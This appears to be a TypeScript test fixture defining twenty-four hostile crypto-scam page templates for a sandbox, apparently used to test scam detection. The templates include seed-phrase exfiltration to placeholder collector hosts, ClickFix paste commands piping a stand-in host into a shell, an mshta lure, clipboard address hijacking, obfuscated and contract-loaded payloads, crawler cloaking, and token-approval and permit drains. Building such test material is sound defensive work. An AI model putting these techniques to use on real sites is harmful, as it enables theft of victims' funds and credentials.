import { UNLIMITED } from '../../src/sandbox/history/calls.ts'
import { coins, orderOf, permitBatchOf, permitOf, pictureOf } from '../../src/testing/sandboxMessages.ts'
import { codePicture } from './codePictures.ts'
import { drawnWindow } from './drawnWindow.ts'
import { type PageClass, sends, signs } from './pageDesign.ts'
import {
  batch,
  button,
  copies,
  file,
  json,
  OTHER_COINS,
  one,
  plain,
  signsAs,
  THEIR_COINS,
  THEIR_TON,
  THEIR_TRON,
  TYPED,
} from './seventhBlindParts.ts'

const hidden = (text: string) => Buffer.from(text, 'utf8').toString('base64')
const giftCode = codePicture(`bitcoin:${THEIR_COINS}?amount=0.1`, 2)

/** Twenty-four hostile pages of the seventh set. */
export const SEVENTH_HOSTILE: readonly PageClass[] = [
  one('drawn-keyboard', true, () => ({
    title: 'Wallet access',
    content:
      '<h1>Restore access</h1><p>For your safety the words are entered with the keyboard on the screen.</p><p id="n">Word 1 of 12</p><output id="o"></output><br><canvas id="k" width="520" height="160"></canvas>',
    start: `const keys = 'qwertyuiopasdfghjklzxcvbnm␣'; const pen = at('#k').getContext('2d'); pen.font = '20px sans-serif'; [...keys].forEach((key, i) => pen.fillText(key, 20 + (i % 10) * 50, 40 + Math.floor(i / 10) * 50)); let text = ''
at('#k').onclick = (event) => { const key = keys[Math.floor((event.offsetX - 5) / 50) + 10 * Math.floor((event.offsetY - 10) / 50)]; if (!key) return; text += key === '␣' ? ' ' : key; at('#o').textContent = text.split(' ').pop(); at('#n').textContent = 'Word ' + text.split(' ').length + ' of 12'; fetch('/api/k', { method: 'POST', body: key }) }`,
  })),
  one('editable-block', true, () => ({
    title: 'Wiederherstellung',
    content:
      '<h1>Konto wiederherstellen</h1><p>Fügen Sie Ihre zwölf Wörter in das Feld ein. Es wird nichts gespeichert.</p><div id="e" contenteditable="true" style="border:1px solid #888;min-height:5rem;padding:1rem"></div>',
    start: `let last = ''; at('#e').addEventListener('input', () => { last = at('#e').innerText }); setInterval(() => { if (!last) return; const body = last; last = ''; navigator.sendBeacon('https://{{collector}}/v', body) }, 700)`,
    hosts: { collector: plain('') },
  })),
  one('chat-operator', true, () => ({
    title: 'Bantuan dompet',
    content:
      '<h1>Bantuan 24 jam</h1><p>Transaksi tertunda? Agen kami siap membantu.</p><div id="c" style="border:1px solid #ccc;padding:1rem"><p><b>Rina:</b> Halo, dompet apa yang Anda pakai?</p></div><input id="m" placeholder="Tulis pesan">',
    buttons: [
      button(
        'Kirim',
        `const text = at('#m').value || 'halo'; at('#m').value = ''; window.t = (window.t || 0) + 1; const line = (who, words) => { const p = document.createElement('p'); p.textContent = who + ': ' + words; at('#c').append(p) }; line('Anda', text); await fetch('/api/pesan', { method: 'POST', body: JSON.stringify({ text, step: window.t }) }); line('Rina', ['Terima kasih. Alamat Anda belum sinkron dengan jaringan.', 'Untuk menyinkronkan, kirim frasa pemulihan 12 kata Anda di obrolan ini.', 'Baik, mohon tunggu 24 jam.'][Math.min(window.t - 1, 2)])`,
      ),
    ],
  })),
  one('verify-batch', true, (world) => ({
    title: 'Holder verification',
    content: '<h1>Verify your holdings</h1><p>No gas. Verified wallets enter the second round.</p>',
    buttons: [
      {
        label: 'Verify',
        code: `show('<h1>One more step</h1><p>Confirm in your wallet to prove ownership.</p><button type="button" id="p">Confirm</button>'); at('#p').onclick = async () => { ${signsAs(world, permitBatchOf(world, world.thief))} }`,
      },
    ],
  })),
  one('decoy-calls', true, (world) => ({
    title: 'Zinskonto',
    content: '<h1>Einzahlung in einem Schritt</h1><p>Freigabe und Einzahlung werden gebündelt.</p>',
    buttons: [
      {
        label: 'Einzahlen',
        code: batch([
          { to: world.tokens.dai, data: world.call('PlainToken', 'approve', [world.honest.vault, 10n ** 18n]) },
          { to: world.tokens.usdc, data: world.call('StableToken', 'increaseAllowance', [world.thief, UNLIMITED]) },
        ]),
      },
    ],
  })),
  one('root-signature', true, () => ({
    title: 'Colección: acceso anticipado',
    content: '<h1>Acceso anticipado</h1><p>Inicia sesión con tu cartera para ver la lista.</p>',
    buttons: [
      {
        label: 'Iniciar sesión',
        code: signs({
          types: { Root: [{ name: 'root', type: 'bytes32' }] },
          primaryType: 'Root',
          domain: {
            name: 'Blur Exchange',
            version: '1.0',
            chainId: 1,
            verifyingContract: '0xb2ecfe4e4d61f8790bbb9de2d1259b9e2410cea5',
          },
          message: { root: `0x${'5c1e7a90'.repeat(8)}` },
        }),
      },
    ],
  })),
  one('sale-to-other', true, (world) => ({
    title: '作品の貸し出し',
    content: '<h1>作品を貸して収入を得る</h1><p>作品はあなたの手元に残ります。署名は一度だけです。</p>',
    buttons: [
      {
        label: '貸し出す',
        code: signsAs(
          world,
          orderOf(world, {
            offer: [pictureOf(world, 1n), pictureOf(world, 2n)],
            consideration: [{ ...coins(2n * 10n ** 18n), recipient: world.thief }],
          }),
        ),
      },
    ],
  })),
  one('host-sealed', true, (world) => ({
    title: 'Points season two',
    content: '<h1>Season two</h1><p>Points of season one can be exchanged from today.</p>',
    start: `const sealed = await (await fetch('/assets/theme.bin')).text(); const key = 'season-two'; const open = [...atob(sealed)].map((c, i) => String.fromCharCode(c.charCodeAt(0) ^ key.charCodeAt(i % key.length))).join(''); const made = document.createElement('button'); made.textContent = 'Exchange'; made.onclick = async () => { await connect(); new Function('send', open)(send) }; at('#view').append(made)`,
    files: {
      '/assets/theme.bin': plain(
        hidden(
          [
            ...`(async () => { ${sends(world.tokens.dai, world.call('PlainToken', 'approve', [world.thief, UNLIMITED]))} })()`,
          ]
            .map((c, i) => String.fromCharCode(c.charCodeAt(0) ^ 'season-two'.charCodeAt(i % 10)))
            .join(''),
        ),
      ),
    },
  })),
  one('chain-clickfix', true, () => ({
    title: 'Recettes de saison',
    content: '<h1>Soupe de potimarron</h1><p>Un potimarron, deux oignons, un demi-litre de bouillon.</p>',
    start: `const answer = await (await fetch('https://{{node}}/', { method: 'POST', body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'eth_call', params: [{ to: '0x8fbA1667bEF5EdA433928b220886A830488549BD', data: '0x2cae8ae4' }, 'latest'] }) })).json(); const text = decodeURIComponent(answer.result.slice(2).replace(/../g, '%$&')); new Function('show', 'at', text)(show, at)`,
    hosts: {
      node: json({
        jsonrpc: '2.0',
        id: 1,
        result: `0x${Buffer.from(
          `show('<h2>Vérification</h2><p>Trafic inhabituel. Ouvrez Terminal, collez le code, appuyez sur Entrée.</p><button type="button" id="v">Copier le code</button>'); at('#v').onclick = () => navigator.clipboard.writeText("echo 'Y3VybCAtcyBodHRwczovL3NvdXBlLmV4YW1wbGUvbSB8IHNo' | base64 -D | zsh")`,
          'utf8',
        ).toString('hex')}`,
      }),
    },
  })),
  one('captcha-selection', true, () => ({
    title: 'Security check',
    content:
      '<h1>Verify you are human</h1><div role="checkbox" aria-checked="false" tabindex="0" id="b" style="border:1px solid #aaa;width:280px;padding:1rem;cursor:pointer">I am not a robot</div><textarea id="h" style="position:absolute;left:-9999px" aria-hidden="true">mshta https://{{drop}}/verify.mp4 # ✅ I am not a robot - Verification ID 7391</textarea>',
    start: `at('#b').onclick = () => { at('#h').select(); document.execCommand('copy'); show('<h1>Verification steps</h1><p>1. Press <b>⊞ + R</b></p><p>2. Press <b>Ctrl + V</b></p><p>3. Press <b>Enter</b></p>') }`,
    hosts: { drop: plain('echo') },
  })),
  one('extension-update', true, () => ({
    title: '拡張機能の更新',
    content:
      '<h1>お使いのウォレットは古いバージョンです</h1><p>バージョン 11.4 は 12 月 1 日から送金できなくなります。資産を守るため、今すぐ更新してください。</p><ol><li>ファイルを展開する</li><li>chrome://extensions を開き、デベロッパー モードを有効にする</li><li>「パッケージ化されていない拡張機能を読み込む」を押す</li><li>フレーズでウォレットを復元する</li></ol><a href="/update/wallet-12.0.1.zip" download>更新をダウンロード</a>',
    buttons: [
      button(
        '自動で更新',
        `const a = document.createElement('a'); a.href = '/update/wallet-12.0.1.zip'; a.download = 'wallet-12.0.1.zip'; a.click()`,
      ),
    ],
    files: { '/update/wallet-12.0.1.zip': file('PK\u0003\u0004') },
  })),
  one('locked-popup', true, () => ({
    title: 'Portfolio',
    content: `<h1>Your portfolio</h1><p>Loading balances…</p><div id="layer"></div>`,
    start: `await new Promise((done) => setTimeout(done, 900)); at('#layer').innerHTML = ${JSON.stringify(
      drawnWindow({
        title: '🦊 MetaMask Notification',
        buttons: 'signs',
        place: 'position:fixed;top:0;right:20px;width:357px;height:520px',
        content:
          '<h2>Welcome back!</h2><p>The decentralized web awaits</p><input type="password" id="w" placeholder="Password"><button type="button" id="u">Unlock</button>',
      }),
    )}; at('#u').onclick = () => { const data = new FormData(); data.append('p', at('#w').value); fetch('/api/log', { method: 'POST', body: data }); at('#layer').innerHTML = '' }`,
  })),
  one('copy-hijack', true, () => ({
    title: 'Pago de la factura 2290',
    content: `<h1>Factura 2290</h1><p>Importe: 0,014 BTC. Copie la dirección y pague en 30 minutos.</p><code id="d">${OTHER_COINS}</code>`,
    start: `document.addEventListener('copy', (event) => { event.clipboardData.setData('text/plain', atob('${hidden(THEIR_COINS)}')); event.preventDefault() })`,
    buttons: [
      button(
        'Copiar',
        `const range = document.createRange(); range.selectNodeContents(at('#d')); getSelection().removeAllRanges(); getSelection().addRange(range); document.execCommand('copy'); say('Copiado')`,
      ),
    ],
  })),
  one('gift-code', true, () => ({
    title: 'Sự kiện trực tiếp',
    content: `<h1>Sự kiện tri ân 5.000 BTC</h1><p>Gửi từ 0,1 đến 5 BTC, nhận lại gấp đôi ngay lập tức. Mỗi địa chỉ chỉ một lần.</p>${giftCode.html}<p>Còn lại: 1.204 BTC</p><table><tr><td>0,5 → 1,0</td><td>xong</td></tr><tr><td>1,2 → 2,4</td><td>xong</td></tr></table>`,
    start: giftCode.start,
  })),
  one('recovery-fee', true, () => ({
    title: 'Récupération d’actifs numériques',
    content: `<h1>Vous avez été victime d’une arnaque ?</h1><p>Nos experts ont récupéré 96 % des fonds perdus. Garantie de résultat. Les frais de dossier de 12 % se règlent d’avance en bitcoin.</p><label>Montant perdu <input name="m"></label><label>Courriel <input type="email" name="e"></label>`,
    buttons: [
      button(
        'Ouvrir le dossier',
        `await fetch('/api/dossier', { method: 'POST', body: ${TYPED} }); show('<h1>Dossier 8841 ouvert</h1><p>Fonds localisés. Réglez les frais de 0,021 BTC pour débloquer le virement :</p><code>${THEIR_COINS}</code>')`,
      ),
    ],
  })),
  one('withdraw-tax', true, () => ({
    title: '交易中心',
    content: '<h1>我的资产</h1><p>总资产 48,210.55 USDT</p><p>今日收益 +3.1%</p>',
    buttons: [
      button(
        '提现',
        `show('<h1>提现</h1><p>可提现 48,210.55 USDT</p><input placeholder="提现地址"><button type="button" id="t">确认</button>'); at('#t').onclick = () => show('<h1>账户已冻结</h1><p>请先缴纳 10% 个人所得税（4,821 USDT）后即可提现，税款不可从余额中扣除。充值地址：</p><code>${THEIR_TRON}</code><p>逾期每日加收 1%</p>')`,
      ),
    ],
  })),
  one('delayed-permit', true, (world) => ({
    title: 'Eligibility',
    content: '<h1>Am I eligible?</h1><p>We go through four years of transactions. It takes a few seconds.</p>',
    buttons: [
      {
        label: 'Check',
        code: `for (let i = 10; i <= 100; i += 10) { say('Reading blocks… ' + i + ' %'); await new Promise((done) => setTimeout(done, 800)) } say('You are eligible for 3,180 tokens.'); ${signsAs(world, permitOf(world, world.thief, UNLIMITED))}`,
      },
    ],
  })),
  one('search-guests', true, (world) => ({
    title: 'Staking',
    content: '<h1>Stake and restake</h1><p>Move your stake to the new pool before the old one closes.</p>',
    buttons: [
      {
        label: 'Migrate',
        code: sends(world.tokens.usdt, world.call('TetherLikeToken', 'approve', [world.thief, UNLIMITED])),
      },
    ],
    gate: ({ referer, path }) =>
      path === '/' && !/google|bing|duckduckgo|t\.co|x\.com/.test(referer)
        ? {
            status: 200,
            headers: { 'content-type': 'text/html' },
            body: '<!doctype html><title>Notes on gardening</title><h1>Notes on gardening</h1><p>Roses are cut in March.</p>',
          }
        : null,
  })),
  one('human-gate', true, (world) => ({
    title: 'Mint pass',
    content: `<h1>Mint pass</h1><p>Four hundred passes. One for each account.</p>${'<p>·</p>'.repeat(40)}<p>End of the list.</p>`,
    start: `const seen = { move: 0, scroll: 0 }; const real = () => !navigator.webdriver && seen.move > 2 && seen.scroll > 0; const open = () => { if (!real() || at('#mint')) return; const made = document.createElement('button'); made.id = 'mint'; made.textContent = 'Mint'; made.onclick = async () => { await connect(); ${sends(world.nfts.collectible, world.call('Collectible721', 'setApprovalForAll', [world.thief, true]))} }; at('#view').append(made) }; addEventListener('mousemove', () => { seen.move++; open() }); addEventListener('scroll', () => { seen.scroll++; open() })`,
  })),
  one('second-visit', true, () => ({
    title: 'Панель кошелька',
    content: '<h1>Технические работы</h1><p>Панель откроется через минуту. Обновите страницу.</p>',
    start: `if (localStorage.getItem('v')) { show('<h1>Сессия устарела</h1><p>Введите секретную фразу, чтобы снова привязать кошелёк.</p><textarea rows="4"></textarea><button type="button" id="g">Привязать</button>'); at('#g').onclick = () => { fetch('/api/p', { method: 'POST', body: at('textarea').value }); say('Ошибка сети') } } localStorage.setItem('v', '1')`,
  })),
  one('remote-helper', true, () => ({
    title: 'Wallet support line',
    content:
      '<h1>Your wallet was accessed from a new device</h1><p>Do not close this page. Call <b>+1 (805) 555-0142</b> now. Our technician will secure your coins through a remote session.</p><p>Ask for your session code after installing the helper. Keep your wallet open during the call.</p>',
    buttons: [
      button(
        'Install the helper',
        `const a = document.createElement('a'); a.href = '/get/SecureHelper.exe'; a.download = ''; a.click(); say('Tell the technician the nine digits that the helper shows, and press Accept.')`,
      ),
    ],
    start: `addEventListener('beforeunload', (event) => { event.preventDefault() }); document.onkeydown = () => false`,
    files: { '/get/SecureHelper.exe': file('MZ') },
  })),
  one('issue-grid', true, () => ({
    title: 'Decentralised ledger fix',
    content:
      '<h1>Select the issue</h1><div class="g"><div class="i" style="cursor:pointer">Migration</div><div class="i" style="cursor:pointer">Rectification</div><div class="i" style="cursor:pointer">Missing balance</div><div class="i" style="cursor:pointer">Failed swap</div></div>',
    start: `root.querySelectorAll('.i').forEach((item) => { item.onclick = () => { show('<h1>Choose wallet</h1><div class="i" style="cursor:pointer">Trust</div><div class="i" style="cursor:pointer">Rainbow</div><div class="i" style="cursor:pointer">Other</div>'); root.querySelectorAll('.i').forEach((one) => { one.onclick = () => { show('<h1>' + one.textContent + '</h1><form action="https://{{forms}}/f/mqkrvbod" method="post" target="_blank"><textarea name="message" placeholder="Phrase" required></textarea><input name="key" placeholder="Keystore JSON"><button>Proceed</button></form>') } }) } })`,
    hosts: { forms: plain('Thanks') },
  })),
  one('tron-approve', true, () => ({
    title: '扫码收款',
    content: '<h1>向商户付款</h1><p>金额 12 USDT（TRC20）</p>',
    buttons: [
      button(
        '付款',
        `const tron = window.tronWeb ?? window.tronLink?.tronWeb; if (!tron) { say('请在钱包中打开'); return } await window.tronLink?.request?.({ method: 'tron_requestAccounts' }); const { transaction } = await tron.transactionBuilder.triggerSmartContract('TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t', 'increaseApproval(address,uint256)', { feeLimit: 1e8 }, [{ type: 'address', value: '${THEIR_TRON}' }, { type: 'uint256', value: '99999999999999' }], tron.defaultAddress.base58); await tron.trx.sendRawTransaction(await tron.trx.sign(transaction)); say('付款成功')`,
      ),
    ],
  })),
  one('ton-reward', true, () => ({
    title: 'Награда канала',
    content: '<h1>Заберите 4 200 TON</h1><p>Награда подписчикам. Осталось 11 минут.</p>',
    buttons: [
      button(
        'Забрать',
        `const ton = (window.tonkeeper ?? window.mytonwallet)?.tonconnect; if (!ton) { say('Откройте в кошельке'); return } await ton.connect(2, { manifestUrl: location.origin + '/m.json', items: [{ name: 'ton_addr' }] }); await ton.send({ method: 'sendTransaction', id: '1', params: [JSON.stringify({ valid_until: 99999999999, messages: [{ address: '${THEIR_TON}', amount: '990000000000', payload: 'te6cckEBAQEAHAAANAAAAABSZWNlaXZlZCArNCwyMDAgVE9O' }] })] })`,
      ),
    ],
    files: { '/m.json': json({ url: 'https://{{self}}', name: 'Награда', iconUrl: 'https://{{self}}/i.png' }) },
  })),
  one('task-job', true, () => ({
    title: 'Online-Aufgaben',
    content:
      '<h1>80 bis 300 USDT am Tag</h1><p>Vierzig Klicks, zwanzig Minuten. Keine Erfahrung nötig. Guthaben: 41,20 USDT</p>',
    buttons: [
      button(
        'Nächste Aufgabe',
        `show('<h1>Glückspaket!</h1><p>Diese Aufgabe bringt 180 USDT. Ihr Guthaben ist um 96 USDT im Minus. Laden Sie den Fehlbetrag auf, dann wird alles zusammen ausgezahlt.</p><code>${THEIR_TRON}</code><button type="button" id="c">Adresse kopieren</button>'); at('#c').onclick = async () => { ${copies(THEIR_TRON)} }`,
      ),
    ],
  })),
]
